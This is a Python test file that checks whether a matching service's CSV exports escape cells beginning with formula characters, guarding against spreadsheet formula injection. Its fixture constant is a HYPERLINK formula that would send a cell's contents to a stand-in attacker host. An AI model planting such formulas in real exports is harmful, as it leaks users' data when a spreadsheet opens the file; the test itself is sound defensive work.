"""Issue 14 defect 1 through the service: export.csv never hands out a live formula."""

from __future__ import annotations

import csv
import io
import shutil

from folder_edits import read_rows, write_rows
from service_helpers import solve, upload, zip_folder

from matcher.io.csv_safe import FORMULA_STARTS

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exports_quote_formula_names(client, keys, data_zips, tmp_path):
    folder = shutil.copytree(data_zips["small_folder"], tmp_path / "small")
    rows = read_rows(folder, "peers.csv")
    name = rows[0].index("name")
    for row in rows[1:]:
        row[name] = ATTACK
    write_rows(folder, "peers.csv", rows)
    programme_id = upload(client, zip_folder(folder, tmp_path / "p.zip"), keys["manager"])
    run = solve(client, programme_id, keys["manager"], time_limit_s=20, seed=3)
    assert run["status"] == "done", run
    for table in ("teams", "assignments", "unfilled", "utilisation"):
        answer = client.get(run["links"]["csv"], params={"table": table}, headers=keys["manager"])
        assert answer.status_code == 200
        cells = [c for row in csv.reader(io.StringIO(answer.text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], table
    teams = client.get(run["links"]["csv"], params={"table": "teams"}, headers=keys["manager"])
    assert "'" + ATTACK in [c for row in csv.reader(io.StringIO(teams.text)) for c in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
